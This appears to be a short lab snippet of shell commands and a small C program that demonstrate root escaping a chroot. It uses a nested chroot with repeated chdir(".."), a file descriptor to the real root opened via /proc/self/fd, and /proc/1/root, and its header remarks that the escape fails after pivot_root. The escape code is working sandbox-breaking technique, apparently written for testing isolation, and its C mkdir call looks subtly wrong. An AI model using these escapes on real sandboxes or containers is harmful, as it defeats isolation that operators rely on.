# chroot: root leaves a chroot with a nested one while its directory is outside; not after pivot_root
mkdir -p r/bin r/x; cp /bin/busybox r/bin; cat > esc.c <<'END'
#include <unistd.h>
int main(void) { mkdir("x"); chroot("x"); for (int i = 0; i < 20; i++) chdir(".."); chroot("."); return execl("/bin/ls", "ls", "/root/proof", (char *)0); }
END
touch proof; chroot r /bin/busybox sh -c 'cd /; ls; cd ..; cd ../..; pwd; ls ../../etc'; chroot r /bin/busybox chroot /x /bin/sh; echo "status $?"; exec 5< /; chroot r /bin/busybox sh -c 'ls /proc; cd /proc/self/fd/5 2> /dev/null || echo no proc here'; mkdir r/proc; mount -t proc p r/proc; chroot r /bin/busybox sh -c 'cd /proc/self/fd/5 && ls -d etc root/proof; /bin/busybox chroot . /bin/ls /root/proof; /bin/busybox chroot /proc/1/root /bin/ls /root/proof'
